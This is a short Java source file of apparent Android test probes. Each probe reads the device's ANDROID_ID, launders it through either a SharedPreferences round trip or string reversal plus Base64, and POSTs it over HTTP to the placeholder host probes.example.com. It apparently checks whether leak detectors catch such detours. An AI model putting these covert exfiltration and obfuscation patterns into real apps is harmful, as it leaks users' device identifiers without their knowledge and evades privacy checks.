package com.cornershop.test.probes;

import android.app.Activity;
import android.content.Context;
import android.content.SharedPreferences;
import android.provider.Settings;
import android.util.Base64;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Starts the probes that send what they read, by a detour. */
final class Sending {
    private static final String HOST = "http://probes.example.com/";

    private Sending() {
    }

    static void start(Activity activity) {
        new PreferencesRoundTrip(activity).start();
        new ObfuscatedString(activity).start();
    }

    static void post(String path, String body) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL(HOST + path).openConnection();
            connection.setDoOutput(true);
            try (OutputStream out = connection.getOutputStream()) {
                out.write(body.getBytes());
            }
            Say.that(path + " was answered with " + connection.getResponseCode());
        } catch (IOException e) {
            Say.failed(path, e);
        }
    }
}

/** Reads, stores the value, and sends what it finds in the store. */
final class PreferencesRoundTrip extends Thread {
    private final Context context;

    PreferencesRoundTrip(Context context) {
        this.context = context;
    }

    @Override
    public void run() {
        String id = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        SharedPreferences kept = context.getSharedPreferences("kept", Context.MODE_PRIVATE);
        kept.edit().putString("id", id).commit();
        Sending.post("preferences", kept.getString("id", "nothing"));
    }
}

/** Reads, turns the value round, and sends it in Base64. */
final class ObfuscatedString extends Thread {
    private final Context context;

    ObfuscatedString(Context context) {
        this.context = context;
    }

    @Override
    public void run() {
        String id = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        String turned = new StringBuilder(id).reverse().toString();
        Sending.post("obfuscated", Base64.encodeToString(turned.getBytes(), Base64.NO_WRAP));
    }
}
